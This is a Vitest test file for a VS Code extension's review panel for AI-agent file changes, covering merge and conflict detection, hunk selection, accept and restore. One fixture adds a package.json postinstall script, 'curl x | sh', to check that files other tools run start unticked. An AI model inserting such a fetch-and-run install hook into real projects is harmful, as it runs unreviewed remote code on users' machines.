import { describe, expect, it } from 'vitest';
import { allHunkIds, buildReviewChangeSet } from '../../../src/core/changes/changeSet.js';
import { unkeptHash } from '../../../src/core/workspace/runSnapshot.js';
import { sha256 } from '../../../src/core/workspace/sha256.js';
import type { FileChange } from '../../../src/contract/fileChange.js';
import { PendingChangeSet } from '../../../src/vscode/changes/pendingChangeSet.js';
import type { FinishedRun } from '../../../src/vscode/run/runTypes.js';

const lines = (...items: string[]) => items.map((item) => `${item}\n`).join('');
const base = lines('one', 'two', 'three', 'four', 'five', 'six');
const team = base.replace('two', 'TWO').replace('five', 'FIVE');
const changes: FileChange[] = [
	{ path: 'a.txt', kind: 'modify', baseHash: sha256(base), base, content: team },
	{ path: 'new.txt', kind: 'add', baseHash: null, base: null, content: 'team\n' },
	{ path: 'old.txt', kind: 'delete', baseHash: sha256('old\n'), base: 'old\n', content: null },
];

function pending() {
	const set = buildReviewChangeSet({ runId: 'r1', winner: { agentId: 'w', label: 'agent1.final' }, changes });
	return new PendingChangeSet({} as FinishedRun, set, []);
}

describe('PendingChangeSet.userEdit: files the user changed since the team read them', () => {
	it('is none until the file is checked, and while it is what the team read', () => {
		const set = pending();
		expect(set.userEdit('a.txt')).toBe('none');
		// setCurrent reports a change of state only (typing re-renders the panel only when it flips).
		expect(set.setCurrent('a.txt', base)).toBe(false);
		expect(set.setCurrent('new.txt', null)).toBe(false);
		expect(set.setCurrent('old.txt', 'old\n')).toBe(false);
		expect(set.setCurrent('a.txt', base.replace('six', 'SIX'))).toBe(true);
		expect(set.setCurrent('a.txt', base.replace('six', 'SIX!'))).toBe(false);
		expect(set.setCurrent('a.txt', base)).toBe(true);
		expect(['a.txt', 'new.txt', 'old.txt'].map((path) => set.userEdit(path))).toEqual([
			'none',
			'none',
			'none',
		]);
	});

	it('merged when the edits do not overlap; conflict when they do, following the live selection', () => {
		const set = pending();
		set.setCurrent('a.txt', base.replace('six', 'SIX'));
		expect(set.userEdit('a.txt')).toBe('merged');
		set.setCurrent('a.txt', base.replace('five', 'cinq'));
		expect(set.userEdit('a.txt')).toBe('conflict');
		// Leaving out the team's hunk on line 5 leaves nothing to clash with.
		const fiveHunk = set.file('a.txt')!.hunks.find((hunk) => hunk.added.includes('FIVE'))!;
		set.select('a.txt', [fiveHunk.id], false);
		expect(set.userEdit('a.txt')).toBe('merged');
		expect(set.view().files.find((file) => file.path === 'a.txt')?.userEdit).toBe('merged');
	});

	it('conflict for a file created where the team adds one, edited where it deletes one, or deleted where it edits one', () => {
		const set = pending();
		set.setCurrent('new.txt', 'mine\n');
		set.setCurrent('old.txt', 'old, edited\n');
		set.setCurrent('a.txt', null);
		expect(set.view().files.map((file) => [file.path, file.userEdit])).toEqual([
			['a.txt', 'conflict'],
			['new.txt', 'conflict'],
			['old.txt', 'conflict'],
		]);
	});
});

describe('PendingChangeSet: files other tools run start unticked', () => {
	const planted: FileChange[] = [
		{ path: '.github/workflows/x.yml', kind: 'add', baseHash: null, base: null, content: 'on: push\n' },
		{ path: '.vscode/tasks.json', kind: 'add', baseHash: null, base: null, content: '{}\n' },
		{ path: 'src/app.js', kind: 'add', baseHash: null, base: null, content: 'x\n' },
		{
			path: 'package.json',
			kind: 'modify',
			baseHash: sha256('{"scripts":{}}\n'),
			base: '{"scripts":{}}\n',
			content: '{"scripts":{"postinstall":"curl x | sh"}}\n',
		},
		{
			path: 'apps/package.json',
			kind: 'modify',
			baseHash: sha256('{"version":"1.0.0"}\n'),
			base: '{"version":"1.0.0"}\n',
			content: '{"version":"1.1.0"}\n',
		},
	];

	it('flags them in the view with who runs them and selects none of their hunks; the others stay ticked', () => {
		const set = new PendingChangeSet(
			{} as FinishedRun,
			buildReviewChangeSet({
				runId: 'r2',
				winner: { agentId: 'w', label: 'agent1.final' },
				changes: planted,
			}),
			[],
		);
		const view = set.view();
		expect(
			view.files.map((file) => [file.path, file.runsCode ?? null, file.hunks.every((hunk) => hunk.selected)]),
		).toEqual([
			['.github/workflows/x.yml', 'ci', false],
			['.vscode/tasks.json', 'editor', false],
			['src/app.js', null, true],
			['package.json', 'install', false],
			['apps/package.json', null, true],
		]);
		expect(set.selected('.github/workflows/x.yml').size).toBe(0);
		// Accept writes nothing for an unticked file; ticking it (the file checkbox) selects its change.
		expect(set.proposedText('.vscode/tasks.json')).toBe('');
		const workflow = set.file('.github/workflows/x.yml')!;
		expect(
			set.select(
				workflow.path,
				workflow.hunks.map((hunk) => hunk.id),
				true,
			),
		).toBe(true);
		expect(set.proposedText(workflow.path)).toBe('on: push\n');
		expect(set.view().files[0]!.runsCode).toBe('ci');
	});
});

describe('PendingChangeSet.acceptFileHunks: Accept File on the diff of a file other tools run', () => {
	it('takes the winner’s whole change while nothing is ticked, the selection otherwise; ordinary files keep theirs', () => {
		const set = new PendingChangeSet(
			{} as FinishedRun,
			buildReviewChangeSet({
				runId: 'r3',
				winner: { agentId: 'w', label: 'agent1.final' },
				changes: [
					{ path: '.husky/pre-commit', kind: 'add', baseHash: null, base: null, content: 'npm test\n' },
					{ path: 'a.txt', kind: 'modify', baseHash: sha256(base), base, content: team },
				],
			}),
			[],
		);
		expect(set.acceptFileHunks('.husky/pre-commit')).toEqual(['final#0']);
		expect(set.acceptFileHunks('a.txt')).toBeUndefined();
		set.select('a.txt', ['final#0', 'final#1'], false);
		expect(set.acceptFileHunks('a.txt')).toBeUndefined();
		set.select('.husky/pre-commit', ['final#0'], true);
		expect(set.acceptFileHunks('.husky/pre-commit')).toBeUndefined();
	});
});

describe('PendingChangeSet: a file whose base was not kept (the team saw it only through a command)', () => {
	// The user saved line 6 after a command showed the file; the base is the later disk text, so
	// diffing against it shows the user's line as one the team removes.
	const edited = base.replace('six', 'SIX');
	const unkept: FileChange = {
		path: 'a.txt',
		kind: 'modify',
		baseHash: unkeptHash(edited),
		base: edited,
		content: team,
	};
	const make = (change: FileChange) =>
		new PendingChangeSet(
			{} as FinishedRun,
			buildReviewChangeSet({
				runId: 'r1',
				winner: { agentId: 'w', label: 'agent1.final' },
				changes: [change],
			}),
			[],
		);

	it('starts unticked and is marked "unseen" whatever is ticked; Accept File takes the whole change', () => {
		const set = make(unkept);
		expect(set.selected('a.txt').size).toBe(0);
		expect(set.setCurrent('a.txt', edited)).toBe(true);
		expect(set.userEdit('a.txt')).toBe('unseen');
		set.select('a.txt', [set.file('a.txt')!.hunks[0]!.id], true);
		expect(set.userEdit('a.txt')).toBe('unseen');
		expect(set.view().files[0]).toMatchObject({ path: 'a.txt', userEdit: 'unseen' });
		expect(make(unkept).acceptFileHunks('a.txt')).toEqual(allHunkIds(set.file('a.txt')!));
	});

	it('control: the same change with a kept base starts ticked and merges', () => {
		const set = make({ ...unkept, base, baseHash: sha256(base) });
		expect(set.selected('a.txt').size).toBeGreaterThan(0);
		set.setCurrent('a.txt', edited);
		expect(set.userEdit('a.txt')).toBe('merged');
		expect(set.acceptFileHunks('a.txt')).toBeUndefined();
	});
});

describe('PendingChangeSet.restore: files whose accept was undone are pending again', () => {
	it('puts accepted files back in change-set order with their selection; a rejected or pending file is left alone', () => {
		const set = pending();
		const fiveHunk = set.file('a.txt')!.hunks.find((hunk) => hunk.added.includes('FIVE'))!;
		set.select('a.txt', [fiveHunk.id], false);
		const selected = [...set.selected('a.txt')];
		set.remove(['a.txt', 'new.txt'], 'accepted');
		set.remove(['old.txt'], 'rejected');
		expect(set.isEmpty).toBe(true);

		expect(set.restore(['new.txt', 'old.txt', 'a.txt', 'missing.txt'])).toEqual(['new.txt', 'a.txt']);
		expect(set.files().map((file) => file.path)).toEqual(['a.txt', 'new.txt']);
		expect([...set.selected('a.txt')]).toEqual(selected);
		expect([set.outcome('a.txt'), set.outcome('old.txt')]).toEqual([undefined, 'rejected']);
		expect(set.restore(['a.txt'])).toEqual([]);
	});
});
